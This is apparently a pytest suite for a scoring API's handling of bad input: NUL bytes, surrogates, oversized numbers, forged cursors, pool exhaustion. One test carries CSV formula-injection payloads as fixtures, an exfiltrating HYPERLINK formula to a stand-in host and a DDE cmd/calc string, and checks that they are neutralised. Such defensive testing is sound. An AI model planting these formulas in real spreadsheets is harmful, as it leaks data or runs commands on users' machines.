"""Bad input through the API: every case gets a 4xx JSON answer naming what was wrong, never a 500, and stores
nothing. NUL characters wherever PostgreSQL would see them, numbers beyond their columns, loosely typed JSON, labels
of sessions that exist nowhere, malformed lengths, methods a path does not serve, spreadsheet formulas in CSV cells,
and a database whose connection pool is exhausted (real PostgreSQL, the in-process app)."""

from __future__ import annotations

import base64
import contextlib
import csv
import io
import json
import uuid
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
import sqlalchemy.exc

from tests.conftest import SHALLOW_ID, THOROUGH_ID, Stack
from tests.support.long_session import long_session_document

API = "/api/v1/scoring"
RUNS = f"{API}/runs"
UNKNOWN_RUN_ID = "a746abd7-f0f6-4c9f-8d65-f015c9e27a26"
"""A run no test creates (a fixed id: pytest-xdist needs the same test ids in every process)."""
IMPORT = f"{API}/sessions:import"


def _problem(response: Any) -> dict[str, Any]:
    """The single validation problem of a 422 answer."""
    assert response.status_code == 422, response.text[:500]
    assert response.headers["content-type"] == "application/json"
    body = response.json()
    assert body["code"] == "validation_error"
    assert len(body["detail"]) == 1, body
    problem: dict[str, Any] = body["detail"][0]
    return problem


def _nothing_stored(stack: Stack) -> None:
    assert stack.container.score_repository.count_by_status() == {}
    assert stack.client.get(RUNS).json()["total_items"] == 0
    assert stack.client.get(f"{API}/sessions/{THOROUGH_ID}/labels").json()["history"] == []


@pytest.mark.parametrize(
    ("path", "params", "loc"),
    [
        (f"{API}/scores", {"agent": "Kube\x00rnetesAgent"}, ["query", "agent"]),
        (f"{API}/scores", {"alert_type": "\x00"}, ["query", "alert_type"]),
        (f"{API}/scores", {"missing_tool": "kubectl\x00", "format": "csv"}, ["query", "missing_tool"]),
        (f"{API}/analytics/missing-tools/kube%00ctl/sessions", {}, ["path", "tool_name"]),
        (f"{API}/analytics/missing-tools/kubectl/sessions", {"cursor": "a\x00"}, ["query", "cursor"]),
        (f"{API}/sessions", {"cursor": "\x00"}, ["query", "cursor"]),
        (f"{API}/sessions/{THOROUGH_ID}/labels", {"unused": "\x00"}, ["query", "unused"]),
        ("/sessions%00", {}, ["path", "path"]),  # the dashboard's catch-all route names its parameter "path"
    ],
)
def test_a_nul_in_the_path_or_query_is_422_naming_the_parameter(
    stack: Stack, path: str, params: dict[str, str], loc: list[str]
) -> None:
    problem = _problem(stack.client.get(path, params=params))

    assert problem["loc"] == loc
    assert "NUL" in problem["msg"]
    assert stack.client.get(f"{API}/scores", params={"agent": "KubernetesAgent"}).status_code == 200


def test_a_nul_in_a_post_path_is_422_and_queues_nothing(stack: Stack) -> None:
    problem = _problem(stack.client.post(f"{API}/sessions/upload:%00/score", json={"force_rescore": True}))

    assert problem["loc"] == ["path", "session_id"]
    _nothing_stored(stack)


@pytest.mark.parametrize(
    ("method", "path", "raw", "loc"),
    [
        (
            "POST",
            RUNS,
            '{"max_sessions": 1, "selection": {"statuses": ["\\ud800"]}}',
            ["body", "selection", "statuses", 0],
        ),
        ("PUT", f"{API}/sessions/{THOROUGH_ID}/labels", '{"total_score": 60, "notes": "a\\udfffb"}', ["body", "notes"]),
    ],
)
def test_a_lone_surrogate_in_a_json_string_is_422_naming_the_field_and_stores_nothing(
    stack: Stack, method: str, path: str, raw: str, loc: list[Any]
) -> None:
    """JSON's unpaired ``\\ud800`` escape decodes to a character with no UTF-8 form: the statement would fail (500)."""
    response = stack.client.request(method, path, content=raw.encode(), headers={"content-type": "application/json"})
    problem = _problem(response)

    assert problem["loc"] == loc
    assert "surrogate" in problem["msg"]
    _nothing_stored(stack)


@pytest.mark.parametrize(
    ("method", "path", "body", "loc"),
    [
        ("PUT", f"{API}/sessions/{THOROUGH_ID}/labels", {"total_score": 60, "notes": "ok\x00"}, ["body", "notes"]),
        ("POST", RUNS, {"max_sessions": 1, "name": "nightly\x00"}, ["body", "name"]),
        ("POST", RUNS, {"max_sessions": 1, "selection": {"agent": "\x00"}}, ["body", "selection", "agent"]),
        (
            "POST",
            RUNS,
            {"max_sessions": 1, "selection": {"statuses": ["completed", "fail\x00ed"]}},
            ["body", "selection", "statuses", 1],
        ),
        ("POST", f"{API}/exports/training", {"criteria_hash": "any\x00"}, ["body", "criteria_hash"]),
    ],
)
def test_a_nul_in_a_json_string_is_422_naming_the_field_and_stores_nothing(
    stack: Stack, method: str, path: str, body: dict[str, Any], loc: list[Any]
) -> None:
    problem = _problem(stack.client.request(method, path, json=body))

    assert problem["loc"] == loc
    assert "NUL" in problem["msg"]
    _nothing_stored(stack)


@pytest.mark.parametrize(
    ("path", "params", "name"),
    [
        (RUNS, {"page": "6147359712039411712"}, "page"),
        (RUNS, {"page_size": "1000"}, "page_size"),
        (f"{RUNS}/{UNKNOWN_RUN_ID}/sessions", {"page": "6147359712039411712"}, "page"),
        (f"{API}/sessions", {"page": "6147359712039411712"}, "page"),
        (f"{API}/scores", {"limit": "6147359712039411712", "format": "csv"}, "limit"),
        (f"{API}/analytics/missing-tools/kubectl/sessions", {"limit": "6147359712039411712"}, "limit"),
    ],
)
def test_page_and_limit_parameters_are_bounded(stack: Stack, path: str, params: dict[str, str], name: str) -> None:
    problem = _problem(stack.client.get(path, params=params))

    assert problem["loc"] == ["query", name]
    assert "less than or equal to" in problem["msg"]


@pytest.mark.parametrize("cost", ["1e30", "Infinity", "-Infinity", "NaN", "100000000", "0"])
def test_max_cost_usd_is_finite_and_within_its_column(claude_stack: Stack, cost: str) -> None:
    stack = claude_stack
    body = '{"max_sessions": 1, "max_cost_usd": ' + cost + "}"

    problem = _problem(stack.client.post(RUNS, content=body, headers={"content-type": "application/json"}))

    assert problem["loc"] == ["body", "max_cost_usd"]
    assert stack.client.get(RUNS).json()["total_items"] == 0


def test_the_largest_max_cost_usd_the_column_holds_is_accepted(claude_stack: Stack) -> None:
    response = claude_stack.client.post(
        RUNS, json={"max_sessions": 1, "max_cost_usd": 99_999_999.9999, "dry_run": True}
    )

    assert response.status_code == 200, response.text


@pytest.mark.parametrize(
    ("body", "loc"),
    [
        ({"max_sessions": 1, "dry_run": "yes"}, ["body", "dry_run"]),
        ({"max_sessions": 1, "dry_run": 1}, ["body", "dry_run"]),
        ({"max_sessions": 1, "dry_run": "no"}, ["body", "dry_run"]),
        ({"max_sessions": 1, "dry_run": 0}, ["body", "dry_run"]),
        ({"max_sessions": "5"}, ["body", "max_sessions"]),
        ({"max_sessions": 5.0}, ["body", "max_sessions"]),
        ({"max_sessions": 1, "name": 7}, ["body", "name"]),
        (
            {"max_sessions": 1, "selection": {"which": "score_below", "score_below": "50"}},
            ["body", "selection", "score_below"],
        ),
        ({"max_sessions": 1, "selection": {"submitted_after": 0}}, ["body", "selection", "submitted_after"]),
        ({"max_sessions": 3_000_000_000}, ["body", "max_sessions"]),
    ],
)
def test_a_run_request_takes_strict_json_types(stack: Stack, body: dict[str, Any], loc: list[str]) -> None:
    problem = _problem(stack.client.post(RUNS, json=body))

    assert problem["loc"] == loc
    assert stack.client.get(RUNS).json()["total_items"] == 0


def test_a_run_request_still_reads_its_enums_and_times_from_json_strings(stack: Stack) -> None:
    body = {
        "max_sessions": 2,
        "dry_run": True,
        "selection": {"which": "all", "submitted_after": "2020-01-01T00:00:00Z", "statuses": ["completed"]},
    }

    assert stack.client.post(RUNS, json=body).status_code == 200


def test_an_export_job_request_takes_strict_json_types(stack: Stack) -> None:
    problem = _problem(stack.client.post(f"{API}/exports/training", json={"min_score": "85"}))

    assert problem["loc"] == ["body", "min_score"]


def test_a_label_of_a_session_that_exists_nowhere_is_404_and_not_stored(stack: Stack) -> None:
    response = stack.client.put(f"{API}/sessions/no-such-session/labels", json={"total_score": 60})

    assert response.status_code == 404
    assert response.json()["code"] == "session_not_found"
    assert "no-such-session" in response.json()["detail"]
    assert stack.client.get(f"{API}/sessions/no-such-session/labels").json()["history"] == []


def test_labels_of_a_source_session_an_upload_and_a_scored_session_are_stored(stack: Stack) -> None:
    upload = stack.client.post(IMPORT, json=long_session_document("doc-1", tool_calls=3)).json()["session_id"]
    stack.container.score_repository.ensure_criteria(stack.container.config.criteria_hash, {"scoring": {}})
    stack.container.score_repository.create_attempt(
        uuid.uuid4(), "gone-from-source", stack.container.config.criteria_hash, "t"
    )

    for session_id in (THOROUGH_ID, upload, "gone-from-source"):
        response = stack.client.put(f"{API}/sessions/{session_id}/labels", json={"total_score": 60})
        assert response.status_code == 200, (session_id, response.text)


def test_a_malformed_content_length_is_400_json_not_413(stack: Stack) -> None:
    request = stack.client.build_request("POST", f"{API}/sessions/{THOROUGH_ID}/score", content=b"{}")
    request.headers["content-length"] = "abc"
    response = stack.client.send(request)

    assert response.status_code == 400
    assert response.json()["code"] == "invalid_content_length"
    assert "Content-Length" in response.json()["detail"]
    assert stack.container.score_repository.count_by_status() == {}


@pytest.mark.parametrize(
    ("method", "path", "allow"),
    [
        ("PUT", f"{API}/sessions/{THOROUGH_ID}/score", {"GET", "POST"}),
        ("DELETE", RUNS, {"GET", "POST"}),
        ("GET", f"{RUNS}/{UNKNOWN_RUN_ID}/cancel", {"POST"}),
        ("POST", f"{API}/criteria/current", {"GET"}),
        ("POST", "/health", {"GET"}),
        ("PATCH", "/openapi.json", {"GET"}),
        ("OPTIONS", f"{API}/sessions", {"GET"}),
    ],
)
def test_a_405_names_the_allowed_methods(stack: Stack, method: str, path: str, allow: set[str]) -> None:
    response = stack.client.request(method, path)

    assert response.status_code == 405, response.text
    assert response.json()["code"] == "method_not_allowed"
    assert set(response.headers["allow"].split(", ")) - {"HEAD"} == allow


def test_a_method_on_an_api_path_no_route_serves_is_404(stack: Stack) -> None:
    response = stack.client.post(f"{API}/no-such-thing")

    assert response.status_code == 404
    assert response.json()["code"] == "not_found"


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(stack: Stack) -> None:
    formulas = {
        "agent_type": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "alert_type": "+cmd|' /C calc'!A0",
    }
    document = long_session_document("doc-csv", tool_calls=2) | formulas
    session_id = stack.client.post(IMPORT, json=document).json()["session_id"]
    assert stack.request_score(session_id).status_code == 202
    stack.poller.drain()

    text = stack.client.get(f"{API}/scores", params={"format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["agent"], row["alert_type"]) for row in rows] == [
        ("'" + formulas["agent_type"], "'" + formulas["alert_type"])
    ]
    page = stack.client.get(f"{API}/scores").json()  # the JSON answer carries the values as they are
    assert page["items"][0]["session_facts"]["agent"] == formulas["agent_type"]


def test_an_exhausted_connection_pool_is_503_with_retry_after(make_stack: Any) -> None:
    stack = make_stack(SCORING_DATABASE_TIMEOUT_SECONDS="0.5")
    held: list[Any] = []
    for engine in (stack.container.engine, stack.container.query_engine):
        with contextlib.suppress(sqlalchemy.exc.TimeoutError):
            while True:  # every connection the pool may open, checked out until it says it has none left
                held.append(engine.connect())
    try:
        response = stack.client.get(RUNS)
        scores = stack.client.get(f"{API}/scores")
    finally:
        for connection in held:
            connection.close()

    assert response.status_code == 503
    assert response.json()["code"] == "database_unavailable"
    assert "pool" in response.json()["detail"]
    assert int(response.headers["retry-after"]) > 0
    assert (scores.status_code, scores.json()["code"]) == (503, "database_unavailable")
    assert stack.client.get(RUNS).status_code == 200
    assert stack.client.get(f"{API}/scores").status_code == 200


def test_concurrent_forced_rescores_of_a_5_mb_upload_never_answer_500(make_stack: Any) -> None:
    stack = make_stack(SCORING_DATABASE_TIMEOUT_SECONDS="2")
    document = json.dumps(long_session_document("doc-big", tool_calls=4_700)).encode()
    assert 4_500_000 < len(document) <= 5 * 1024 * 1024
    upload = stack.client.post(IMPORT, content=document, headers={"content-type": "application/json"})
    assert upload.status_code == 201, upload.text[:300]
    session_id = upload.json()["session_id"]

    def force() -> Any:
        return stack.client.post(f"{API}/sessions/{session_id}/score", json={"force_rescore": True})

    with ThreadPoolExecutor(max_workers=50) as pool:
        answers = list(pool.map(lambda _: force(), range(50)))

    statuses = sorted(answer.status_code for answer in answers)
    assert set(statuses) <= {202, 503}, statuses
    for answer in answers:
        assert answer.headers["content-type"] == "application/json"
        if answer.status_code == 503:
            assert "retry-after" in answer.headers
    assert 202 in statuses
    assert stack.container.score_repository.count_by_status() == {"pending": 1}
    attempt = stack.score(session_id).json()
    assert attempt["session_facts"]["tool_calls"] == 4_700
    assert attempt["session_facts"]["stages"] == 1
    assert attempt["session_facts"]["agent"] == "KubernetesAgent"


@pytest.mark.parametrize(
    "changes",
    [
        {},
        {"agent_type": "ChainAgent"},
        {"agent_type": "", "stages": [{"name": "a", "steps": []}, {"name": "b", "agent": "Second", "steps": []}]},
        {"stages": []},
    ],
)
def test_an_uploads_outline_has_the_facts_of_the_whole_session(stack: Stack, changes: dict[str, Any]) -> None:
    from session_scoring.models.records import facts_of

    document = long_session_document("doc-outline", tool_calls=3) | changes
    session_id = stack.client.post(IMPORT, json=document).json()["session_id"]
    uploads = stack.container.uploads

    outline = uploads.outline(session_id)

    whole = uploads.get_session(session_id)
    assert (outline.session_id, outline.status, outline.facts) == (session_id, whole.status, facts_of(whole))


def _rewritten(cursor: str, **changes: Any) -> str:
    """A cursor the API gave, with some of its fields changed (a client forging one)."""
    body = json.loads(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4))) | changes
    return base64.urlsafe_b64encode(json.dumps(body).encode()).decode().rstrip("=")


@pytest.mark.parametrize("value", [10**30, -(10**30), True])
def test_a_forged_fleet_cursor_with_a_value_no_score_has_is_400(stack: Stack, value: object) -> None:
    for session_id in (THOROUGH_ID, SHALLOW_ID):
        assert stack.request_score(session_id).status_code == 202
    stack.poller.drain()
    query = {"sort": "total_score", "limit": "1"}
    cursor = stack.client.get(f"{API}/scores", params=query).json()["next_cursor"]

    response = stack.client.get(f"{API}/scores", params=query | {"cursor": _rewritten(cursor, v=value)})

    assert response.status_code == 400
    assert "invalid cursor" in response.json()["detail"]


def test_a_forged_session_list_cursor_with_a_page_beyond_any_source_is_422(stack: Stack) -> None:
    query = {"scored": "unscored", "page_size": "1"}
    cursor = stack.client.get(f"{API}/sessions", params=query).json()["next_cursor"]
    assert cursor is not None

    response = stack.client.get(f"{API}/sessions", params=query | {"cursor": _rewritten(cursor, p=10**30)})

    assert response.status_code == 422
    assert response.json()["code"] == "invalid_parameters"


@pytest.mark.parametrize(
    ("path", "name", "value"),
    [
        (f"{API}/scores", "scored_before", "0.5"),
        (f"{API}/scores", "session_started_after", "1700000000"),
        (f"{API}/analytics/trends", "scored_after", "-1e3"),
    ],
)
def test_a_number_where_a_time_is_expected_is_422_not_seconds_since_1970(
    stack: Stack, path: str, name: str, value: str
) -> None:
    problem = _problem(stack.client.get(path, params={name: value}))

    assert problem["loc"] == ["query", name]
    assert "ISO 8601" in problem["msg"]


def test_an_iso_time_in_the_query_is_still_read(stack: Stack) -> None:
    for path in (f"{API}/scores", f"{API}/analytics/trends"):
        assert stack.client.get(path, params={"scored_after": "2026-01-01T00:00:00Z"}).status_code == 200
